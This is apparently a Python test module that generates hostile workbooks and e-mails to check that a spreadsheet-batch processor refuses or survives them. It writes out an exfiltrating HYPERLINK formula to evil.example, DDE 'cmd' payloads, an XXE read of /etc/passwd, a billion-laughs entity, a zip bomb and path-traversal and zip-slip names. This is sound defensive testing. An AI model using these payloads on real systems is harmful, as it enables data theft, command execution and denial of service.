"""A corpus of hostile inputs (issue 19), every file small and generated here: what an adversarial
department — or an unlucky one — could put in a mailbox folder.

``build(folder)`` writes one file (or a few, where the hostility is a relation between files) of
every kind into ``folder`` and returns what the batch must make of each, keyed by report key
(the input's path relative to ``folder``, an attachment as ``mail.eml:name``): an :class:`Expect`.
``build(folder, ["xxe"])`` writes only the kinds named. Most files are a sample workbook with one
part changed at the XML level, so that everything else is a real workbook's.

Run as a script (``python tests/hostile.py DIR``) to get the corpus for trying by hand.
"""

from __future__ import annotations

import os
import re
import sys
import warnings
import zipfile
from dataclasses import dataclass
from email.message import EmailMessage
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent
SAMPLES = ROOT / "samples"
FIXTURES = ROOT / "tests" / "fixtures"
BASE = SAMPLES / "002_企业服务活动专项经费.xlsx"  # most hostile files are this workbook, changed
OTHER = SAMPLES / "000_铝工业转型升级专项资金.xlsx"
ODS = FIXTURES / "handlaid002.ods"
XLS = FIXTURES / "seed000.xls"
NOTES_PART = "xl/worksheets/sheet1.xml"  # BASE's 填表说明 (project name B3, department B4)
FUND_PART = "xl/worksheets/sheet2.xml"  # BASE's 资金安排情况 (市级 budget F5, spent F8)
FUND_SHEET = "资金安排情况"

NOT_REGULAR = "不是普通文件（管道或设备），未读取"


@dataclass(frozen=True)
class Expect:
    """What becomes of one input.

    outcomes  the report's status "ok", or the error codes it may be refused with (any one of them)
    findings  for an ok report: findings it must hold, as ``CODE`` or ``CODE@SHEET!CELL``
    words     said in the error message
    skipped   the input is not a job: discovery lists it as skipped with a reason holding this
    like      for an ok report: the sample (file name in samples/) whose totals it has
    """

    outcomes: tuple[str, ...] = ("ok",)
    findings: tuple[str, ...] = ()
    words: str = ""
    skipped: str = ""
    like: str | None = None


OK_LIKE_BASE = Expect(like=BASE.name)


# --- zip surgery --------------------------------------------------------------------------------

def _rezip(dest: Path, src: Path = BASE, *, change: dict[str, Callable[[bytes], bytes]] | None = None,
           rename: dict[str, str] | None = None, add: list[tuple[str, bytes]] = ()) -> Path:
    """A copy of the zip ``src`` at ``dest``, parts changed, renamed or added (each member keeps its
    compression: an .ods's mimetype stays stored)."""
    change, rename = change or {}, rename or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename in change:
                data = change[info.filename](data)
            zout.writestr(rename.get(info.filename, info.filename), data, compress_type=info.compress_type)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile's "Duplicate name", when that is the point
            for name, data in add:
                zout.writestr(name, data)
    return dest


def _after_declaration(xml: bytes, insert: bytes) -> bytes:
    """``insert`` put where a DTD stands: after the XML declaration."""
    end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    return xml[:end] + insert + xml[end:]


def _append_rows(rows: str, dimension: str) -> Callable[[bytes], bytes]:
    """A sheet edit: ``rows`` (row elements, below every row there) added, the dimension declared."""
    def edit(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>'.encode(), xml, count=1)
        return xml.replace(b"</sheetData>", rows.encode() + b"</sheetData>", 1)
    return edit


def _set_cell(ref: str, cell: str) -> Callable[[bytes], bytes]:
    """A sheet edit: the cell ``ref`` replaced by the element ``cell``."""
    def edit(xml: bytes) -> bytes:
        new, count = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)'.encode(), cell.encode(), xml, count=1, flags=re.S)
        assert count == 1, ref
        return new
    return edit


def _text(ref: str, text: str) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{escaped}</t></is></c>'


def _both(*edits: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        for each in edits:
            xml = each(xml)
        return xml
    return edit


def _eml(path: Path, attachments: list[tuple[str, bytes]], subject: str = "2021年度绩效自评表") -> None:
    message = EmailMessage()
    message["From"] = "某单位 <dept@example.org>"
    message["To"] = "czj@example.org"
    message["Subject"] = subject
    message["Date"] = "Mon, 10 Jan 2022 09:30:00 +0800"
    message.set_content("附件为自评表，请审核。")
    for name, data in attachments:
        message.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    path.write_bytes(bytes(message))


# --- the kinds ----------------------------------------------------------------------------------
# Each builder writes under ``folder`` and returns {report key: Expect}.

def traversal_names(folder: Path) -> dict[str, Expect]:
    """Attachment names that climb out of the output folder, or name an absolute path."""
    data = BASE.read_bytes()
    _eml(folder / "路径穿越.eml", [("../../../../逃逸.xlsx", data), ("..\\..\\..\\逃逸2.xlsx", data),
                                ("/tmp/绝对路径.xlsx", data)])
    return {f"路径穿越.eml:{name}": OK_LIKE_BASE for name in ("逃逸.xlsx", "逃逸2.xlsx", "绝对路径.xlsx")}


INJECTED = ('=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0")


def formula_injection(folder: Path) -> dict[str, Expect]:
    """Project name and department written as formulas (as text: inert here, dangerous if an
    output wrote them as formulas)."""
    _rezip(folder / "公式注入.xlsx", change={NOTES_PART: _both(_set_cell("B3", _text("B3", INJECTED[0])),
                                                          _set_cell("B4", _text("B4", INJECTED[1])),
                                                          _set_cell("B5", _text("B5", INJECTED[2])))})
    return {"公式注入.xlsx": Expect()}


LONG_PROJECT = "郑州市" + "企业服务活动与产业转型升级专项经费" * 20  # 343 characters: past a page header's 255


def long_project_name(folder: Path) -> dict[str, Expect]:
    """A project name longer than Excel takes in a page header (where the copy puts it)."""
    _rezip(folder / "超长项目名.xlsx", change={NOTES_PART: _set_cell("B3", _text("B3", LONG_PROJECT))})
    return {"超长项目名.xlsx": Expect()}


def xxe(folder: Path) -> dict[str, Expect]:
    """An external entity reading a local file, in a sheet."""
    doctype = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    edit = _both(lambda xml: _after_declaration(xml, doctype), _set_cell("B5", '<c r="B5" t="inlineStr"><is><t>&xxe;</t></is></c>'))
    _rezip(folder / "外部实体.xlsx", change={NOTES_PART: edit})
    return {"外部实体.xlsx": Expect(("FILE_CORRUPT",), words="DTD")}


def dtd_in_a_part_not_named_xml(folder: Path) -> dict[str, Expect]:
    """The fund sheet at worksheets/sheet2.bin (the relationships and content types follow it), with a DTD."""
    def rels(xml: bytes) -> bytes:
        return xml.replace(b'Target="worksheets/sheet2.xml"', b'Target="worksheets/sheet2.bin"')

    def types(xml: bytes) -> bytes:
        return xml.replace(b'PartName="/xl/worksheets/sheet2.xml"', b'PartName="/xl/worksheets/sheet2.bin"')

    doctype = b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">]>'
    _rezip(folder / "非xml部件DTD.xlsx", change={FUND_PART: lambda xml: _after_declaration(xml, doctype),
                                              "xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types},
           rename={FUND_PART: "xl/worksheets/sheet2.bin"})
    return {"非xml部件DTD.xlsx": Expect(("FILE_CORRUPT",), words="sheet2.bin")}


def duplicate_members(folder: Path) -> dict[str, Expect]:
    """The fund sheet twice: one reader takes the first, another the last."""
    with zipfile.ZipFile(OTHER) as other:
        second = other.read(FUND_PART)
    _rezip(folder / "重名部件.xlsx", add=[(FUND_PART, second)])
    return {"重名部件.xlsx": Expect(("FILE_CORRUPT",), words="同名部件")}


def zip_bomb(folder: Path) -> dict[str, Expect]:
    """A part that really inflates past the part limit (129 MiB of zeros, 130 KB on disk), and one
    whose central directory declares 200 MB."""
    path = _rezip(folder / "压缩炸弹.xlsx")
    zero = bytes(1 << 20)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
        with zout.open("xl/media/image1.png", "w", force_zip64=True) as part:
            for _ in range(129):
                part.write(zero)
    declared = bytearray(_rezip(folder / "声明过大.xlsx").read_bytes())
    at = declared.find(b"PK\x01\x02")
    while at != -1:
        length = int.from_bytes(declared[at + 28:at + 30], "little")
        if declared[at + 46:at + 46 + length] == FUND_PART.encode():
            declared[at + 24:at + 28] = (200 * 1024 * 1024).to_bytes(4, "little")  # uncompressed size
            break
        at = declared.find(b"PK\x01\x02", at + 4)
    (folder / "声明过大.xlsx").write_bytes(bytes(declared))
    return {"压缩炸弹.xlsx": Expect(("FILE_TOO_LARGE",)), "声明过大.xlsx": Expect(("FILE_TOO_LARGE",))}


def xml_bomb(folder: Path) -> dict[str, Expect]:
    """Billion laughs in the shared strings."""
    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    doctype = f"<!DOCTYPE sst [{entities}]>".encode()

    def edit(xml: bytes) -> bytes:
        xml = _after_declaration(xml, doctype)
        return re.sub(rb"<si><t>[^<]*</t></si>", b"<si><t>&lol9;</t></si>", xml, count=1)
    _rezip(folder / "实体炸弹.xlsx", change={"xl/sharedStrings.xml": edit})
    return {"实体炸弹.xlsx": Expect(("FILE_CORRUPT",), words="DTD")}


def links(folder: Path) -> dict[str, Expect]:
    """A link to a workbook beside it, links to nothing (a workbook's and an e-mail's), a link to its own folder."""
    where = folder / "链接"
    where.mkdir()
    (where / "原件.xlsx").write_bytes(BASE.read_bytes())
    (where / "指向原件.xlsx").symlink_to("原件.xlsx")
    (where / "断链.xlsx").symlink_to("已删除.xlsx")
    (where / "断链.eml").symlink_to("已删除.eml")
    (where / "循环").symlink_to(".", target_is_directory=True)
    return {"链接/原件.xlsx": OK_LIKE_BASE, "链接/指向原件.xlsx": OK_LIKE_BASE,
            "链接/断链.xlsx": Expect(("FILE_NOT_FOUND",), words="链接"), "链接/断链.eml": Expect(skipped="链接")}


def pipes(folder: Path) -> dict[str, Expect]:
    """FIFOs named like a workbook and like an e-mail: whoever opens them waits for a writer forever."""
    where = folder / "管道"
    where.mkdir()
    os.mkfifo(where / "x.xlsx")
    os.mkfifo(where / "x.eml")
    return {"管道/x.xlsx": Expect(("FILE_UNREADABLE",), words=NOT_REGULAR), "管道/x.eml": Expect(skipped=NOT_REGULAR)}


def zero_device(folder: Path) -> dict[str, Expect]:
    """Links to the zero device, which never ends."""
    where = folder / "设备"
    where.mkdir()
    (where / "零.xlsx").symlink_to("/dev/zero")
    (where / "零.eml").symlink_to("/dev/zero")
    return {"设备/零.xlsx": Expect(("FILE_UNREADABLE",), words=NOT_REGULAR), "设备/零.eml": Expect(skipped=NOT_REGULAR)}


def many_rows(folder: Path) -> dict[str, Expect]:
    """200,000 numbered rows under the notes of 填表说明."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(20, 200_020))
    _rezip(folder / "二十万行.xlsx", change={NOTES_PART: _append_rows(rows, "A1:B200019")})
    return {"二十万行.xlsx": OK_LIKE_BASE}


def huge_numbers(folder: Path) -> dict[str, Expect]:
    """A budget of 1e155 元 (its square overflows a float), a 20-digit amount as text and as a number."""
    (folder / "数字").mkdir()
    _rezip(folder / "数字/1e155.xlsx", change={FUND_PART: _set_cell("F5", '<c r="F5"><v>1E+155</v></c>')})
    _rezip(folder / "数字/二十位文本.xlsx", change={FUND_PART: _set_cell("F8", _text("F8", "12345678901234567890"))})
    _rezip(folder / "数字/二十位数值.xlsx", change={FUND_PART: _set_cell("F8", '<c r="F8"><v>12345678901234567890</v></c>')})
    return {"数字/1e155.xlsx": Expect(findings=(f"VALUE_UNPARSED@{FUND_SHEET}!F5",)),
            "数字/二十位文本.xlsx": Expect(findings=(f"VALUE_UNPARSED@{FUND_SHEET}!F8",)),
            "数字/二十位数值.xlsx": Expect(findings=(f"VALUE_UNPARSED@{FUND_SHEET}!F8",))}


def big_extents(folder: Path) -> dict[str, Expect]:
    """Workbooks of 25 KB whose sheets reach far: a value at the last cell of a sheet (XFD1048576),
    one at NTP20000 (10,000 columns × 20,000 rows), an empty styled cell at ZZ50000 (nothing there
    to read), an .ods row repeated 1,048,555 times of a cell repeated 16,384 times holding a value (and one of
9,000 × 10,000, under the 10⁸ cells calamine refuses by itself),
    and the same .ods as LibreOffice writes it (those repeats empty, as at the end of every sheet);
    the two .xlsx also attached to an e-mail (a worker that dies there leaves its unpacked copy)."""
    where = folder / "巨大范围"
    where.mkdir()
    far = {
        "XFD1048576.xlsx": '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "NTP20000.xlsx": '<row r="20000"><c r="NTP20000"><v>1</v></c></row>',
        "ZZ50000空格式.xlsx": '<row r="50000"><c r="ZZ50000" s="11"/></row>',
    }
    for name, row in far.items():
        corner = re.search(r'c r="([A-Z]+\d+)"', row).group(1)
        _rezip(where / name, change={FUND_PART: _append_rows(row, f"A1:{corner}")})
    trailer = b'<table:table-row table:style-name="ro1" table:number-rows-repeated="1048555">' \
              b'<table:table-cell table:number-columns-repeated="16384"/>'
    def filled(rows: int, columns: int) -> Callable[[bytes], bytes]:
        def fill(xml: bytes) -> bytes:
            assert trailer in xml
            row = (f'<table:table-row table:style-name="ro1" table:number-rows-repeated="{rows}">'
                   f'<table:table-cell table:number-columns-repeated="{columns}" office:value-type="float" '
                   f'office:value="1"><text:p>1</text:p></table:table-cell>').encode()
            return xml.replace(trailer, row, 1)
        return fill
    _rezip(where / "重复单元格.ods", ODS, change={"content.xml": filled(1048555, 16384)})
    _rezip(where / "重复单元格_九千万.ods", ODS, change={"content.xml": filled(9000, 10000)})  # under calamine's own limit
    (where / "正常重复空行.ods").write_bytes(ODS.read_bytes())
    _eml(folder / "巨大范围.eml", [(name, (where / name).read_bytes()) for name in ("XFD1048576.xlsx", "ZZ50000空格式.xlsx")])
    return {"巨大范围.eml:XFD1048576.xlsx": Expect(("FILE_TOO_LARGE",)), "巨大范围.eml:ZZ50000空格式.xlsx": OK_LIKE_BASE,
            "巨大范围/XFD1048576.xlsx": Expect(("FILE_TOO_LARGE",)),
            "巨大范围/NTP20000.xlsx": Expect(("FILE_TOO_LARGE", "ok")),  # 2e8 cells: refused, or read by what they hold
            "巨大范围/ZZ50000空格式.xlsx": OK_LIKE_BASE,
            "巨大范围/重复单元格.ods": Expect(("FILE_TOO_LARGE",)),
            "巨大范围/重复单元格_九千万.ods": Expect(("FILE_TOO_LARGE",)),
            "巨大范围/正常重复空行.ods": OK_LIKE_BASE}


def same_names(folder: Path) -> dict[str, Expect]:
    """Attachments x.xlsx, x.xlsx and x_2.xlsx; a folder 来信/附件.xlsx beside 来信.eml carrying
    附件.xlsx; names one on Windows and macOS (case), and one stem as .xls and .xlsx."""
    base, other = BASE.read_bytes(), OTHER.read_bytes()
    _eml(folder / "同名附件.eml", [("x.xlsx", base), ("x.xlsx", other), ("x_2.xlsx", base)])
    (folder / "来信").mkdir()
    (folder / "来信" / "附件.xlsx").write_bytes(other)
    _eml(folder / "来信.eml", [("附件.xlsx", base)])
    (folder / "大小写").mkdir()
    (folder / "大小写" / "自评表A.xlsx").write_bytes(base)
    (folder / "大小写" / "自评表a.xlsx").write_bytes(other)
    (folder / "大小写" / "手工.xlsx").write_bytes(base)
    (folder / "大小写" / "手工.xls").write_bytes((FIXTURES / "handlaid002.xls").read_bytes())
    other_like = Expect(like=OTHER.name)
    return {"同名附件.eml:x.xlsx#1": OK_LIKE_BASE, "同名附件.eml:x.xlsx#2": other_like, "同名附件.eml:x_2.xlsx": OK_LIKE_BASE,
            "来信/附件.xlsx": other_like, "来信.eml:附件.xlsx": OK_LIKE_BASE,
            "大小写/自评表A.xlsx": OK_LIKE_BASE, "大小写/自评表a.xlsx": other_like, "大小写/手工.xlsx": OK_LIKE_BASE,
            "大小写/手工.xls": Expect()}


def odd_names(folder: Path) -> dict[str, Expect]:
    """Attachment names with control characters, ESC sequences, RLO and isolates; 300 characters;
    dots only; a file named ``..xlsx`` (hidden: skipped); a name of 254 bytes whose copy's name
    would be longer; a folder named like a workbook."""
    base = BASE.read_bytes()
    _eml(folder / "怪名附件.eml", [("红\x1b[31m色.xlsx", base), ("报表\u202excod.xlsx", base), ("c\x07\x85\u2066.xlsx", base),
                                ("长" * 300 + ".xlsx", base), ("..xlsx", base)])
    (folder / "..xlsx").write_bytes(base)
    (folder / ("长" * 83 + ".xlsx")).write_bytes(base)
    (folder / "目录.xlsx").mkdir()
    (folder / "目录.xlsx" / "内含.xlsx").write_bytes(base)
    return {"怪名附件.eml:红[31m色.xlsx": OK_LIKE_BASE, "怪名附件.eml:报表xcod.xlsx": OK_LIKE_BASE,
            "怪名附件.eml:c.xlsx": OK_LIKE_BASE, f"怪名附件.eml:{'长' * 300}.xlsx": OK_LIKE_BASE,
            "怪名附件.eml:..xlsx": OK_LIKE_BASE, "..xlsx": Expect(skipped="隐藏"),
            "长" * 83 + ".xlsx": OK_LIKE_BASE, "目录.xlsx/内含.xlsx": OK_LIKE_BASE}


def broken_files(folder: Path) -> dict[str, Expect]:
    """A truncated download, a password-protected workbook, an empty file, a text file renamed .xlsx."""
    data = BASE.read_bytes()
    (folder / "截断.xlsx").write_bytes(data[: len(data) // 2])
    import msoffcrypto.format.ooxml

    with open(BASE, "rb") as plain, open(folder / "加密.xlsx", "wb") as out:
        msoffcrypto.format.ooxml.OOXMLFile(plain).encrypt("密码123", out)
    (folder / "空文件.xlsx").write_bytes(b"")
    (folder / "文本改名.xlsx").write_text("项目名称,预算安排\n企业服务活动专项经费,2070000\n", encoding="utf-8")
    return {"截断.xlsx": Expect(("FILE_CORRUPT",)), "加密.xlsx": Expect(("FILE_ENCRYPTED",)),
            "空文件.xlsx": Expect(("FILE_NOT_WORKBOOK",)), "文本改名.xlsx": Expect(("FILE_NOT_WORKBOOK",))}


def not_biff(folder: Path) -> dict[str, Expect]:
    """.xls files that are not BIFF: a web page (what web systems export as "Excel"), an OLE
    container without a workbook stream, one whose workbook stream is not BIFF; and a real .xls
    named .xlsx."""
    (folder / "网页导出.xls").write_text("<html><body><table><tr><td>项目名称</td><td>预算安排</td></tr>"
                                      "<tr><td>企业服务活动专项经费</td><td>2070000</td></tr></table></body></html>",
                                      encoding="utf-8")
    data = XLS.read_bytes()
    name = "Workbook".encode("utf-16-le")
    assert data.count(name) == 1
    (folder / "无工作簿流.xls").write_bytes(data.replace(name, "Document".encode("utf-16-le")))
    import olefile

    with olefile.OleFileIO(str(XLS)) as ole:
        entry = ole.direntries[ole._find(["Workbook"])]
        assert entry.size >= ole.minisectorcutoff  # in regular sectors: its first one at (start + 1) × size
        at, size = (entry.isectStart + 1) * ole.sectorsize, ole.sectorsize
    garbage = ("这不是BIFF记录" * 64).encode("utf-8")[:size]
    (folder / "非BIFF流.xls").write_bytes(data[:at] + garbage + data[at + size:])
    (folder / "旧格式改名.xlsx").write_bytes(data)
    return {"网页导出.xls": Expect(("FILE_NOT_WORKBOOK",)), "无工作簿流.xls": Expect(("FILE_NOT_WORKBOOK",)),
            "非BIFF流.xls": Expect(("FILE_CORRUPT", "FILE_NOT_WORKBOOK")), "旧格式改名.xlsx": Expect()}


def zip_slip(folder: Path) -> dict[str, Expect]:
    """A workbook with a member named to climb out of wherever it would be unpacked."""
    _rezip(folder / "压缩包穿越.xlsx", add=[("../../../../逃逸.txt", b"zip slip")])
    return {"压缩包穿越.xlsx": Expect(("ok", "FILE_CORRUPT"))}


KINDS: dict[str, Callable[[Path], dict[str, Expect]]] = {
    "traversal": traversal_names, "formula_injection": formula_injection, "long_project": long_project_name, "xxe": xxe,
    "dtd_not_xml": dtd_in_a_part_not_named_xml, "duplicate_members": duplicate_members, "zip_bomb": zip_bomb,
    "xml_bomb": xml_bomb, "links": links, "pipes": pipes, "zero_device": zero_device, "many_rows": many_rows,
    "huge_numbers": huge_numbers, "big_extents": big_extents, "same_names": same_names, "odd_names": odd_names,
    "broken": broken_files, "not_biff": not_biff, "zip_slip": zip_slip,
}


def build(folder: Path, kinds: list[str] | None = None) -> dict[str, Expect]:
    """Write the corpus (or the ``kinds`` named) into ``folder``; {report key: Expect}."""
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, Expect] = {}
    for kind in kinds or KINDS:
        expected.update(KINDS[kind](folder))
    return expected


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("用法：python tests/hostile.py 输出文件夹")
    for key, expect in build(Path(sys.argv[1])).items():
        print(key, expect)
